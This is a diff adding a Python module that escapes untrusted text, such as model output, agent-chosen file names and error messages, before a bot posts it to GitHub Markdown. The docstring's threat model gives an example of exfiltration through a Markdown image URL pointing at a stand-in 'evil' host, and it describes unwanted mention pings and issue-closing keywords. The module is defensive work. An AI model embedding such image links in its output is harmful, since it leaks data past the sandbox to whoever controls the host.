@@ -1,0 +1,65 @@
+"""Text gitbot did not write, made safe to post as GitHub Markdown (PR body, comments, job summary).
+
+The model's words, file names the agent chose, issue titles and error messages are data. Rendered as
+Markdown they could show an image (`![x](https://evil/?d=…)`: GitHub's image proxy fetches it as soon
+as someone views the page, an exfiltration channel even when the agent had no network), a link, raw
+HTML, ping people (`@someone`) or close other issues on merge (`fixes #12`). So:
+
+- `fenced` puts multi-line text in a fenced code block whose backtick fence is longer than any run of
+  backticks in the text: nothing inside renders (no image, link, autolink, HTML or mention);
+- `code_span` does the same for one line, `md_cell` escapes one line for prose and table cells;
+- `neutralise` breaks mentions and closing keywords with a zero-width space, everywhere, so that even
+  a renderer that looked inside code would find neither.
+"""
+
+from __future__ import annotations
+
+import re
+
+ZWSP = "\u200b"
+# GitHub's closing keywords, when a reference follows them (an issue number, owner/repo#N, GH-N or an
+# issue URL), up to a few characters of punctuation or markup apart.
+CLOSING_KEYWORD = re.compile(
+    r"\b(close[sd]?|fix(?:e[sd])?|resolve[sd]?)\b(?=[\s:*_`'\"(\[]{0,12}(?:#|gh-\d|[\w.-]+/[\w.-]+#|https?:|www\.))",
+    re.IGNORECASE,
+)
+ISSUE_REFERENCE = re.compile(r"#(?=\d)")
+AUTOLINK = re.compile(r"(?i)(?<=[a-z])(:)(?=//)|\b(www)(?=\.)")
+
+
+def neutralise(text: str) -> str:
+    """No mention pings anyone, no closing keyword closes anything (the text still reads the same)."""
+    text = CLOSING_KEYWORD.sub(lambda m: m.group(0)[0] + ZWSP + m.group(0)[1:], text)
+    return text.replace("@", "@" + ZWSP)
+
+
+def fenced(text: str, info: str = "text") -> str:
+    """A fenced code block holding `text` verbatim (apart from `neutralise`): nothing in it renders."""
+    text = neutralise(text.replace("\r\n", "\n").replace("\r", "\n")).strip("\n")
+    longest = max((len(run) for run in re.findall(r"`+", text)), default=0)
+    fence = "`" * max(3, longest + 1)
+    return f"{fence}{info}\n{text}\n{fence}"
+
+
+def code_span(text: str) -> str:
+    """One line as inline code: a backtick run longer than any inside, so the text cannot close it."""
+    text = neutralise(text.replace("\r", " ").replace("\n", " "))
+    longest = max((len(run) for run in re.findall(r"`+", text)), default=0)
+    fence = "`" * (longest + 1)
+    return f"{fence} {text} {fence}" if longest or not text.strip() else f"{fence}{text}{fence}"
+
+
+def code_cell(text: str) -> str:
+    """`code_span` for a table cell: a pipe would end the cell even inside code, so it is escaped."""
+    return code_span(text).replace("|", "\\|")
+
+
+def md_cell(text: str) -> str:
+    """One line of prose or a table cell: no HTML, image, link, autolink, code span, mention or reference."""
+    text = neutralise(text.replace("\r", " ").replace("\n", " "))
+    text = text.replace("\\", "\\\\")
+    for char in "|[]!`":
+        text = text.replace(char, "\\" + char)
+    text = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
+    text = AUTOLINK.sub(lambda m: (m.group(1) or m.group(2)) + ZWSP, text)
+    return ISSUE_REFERENCE.sub("#" + ZWSP, text)
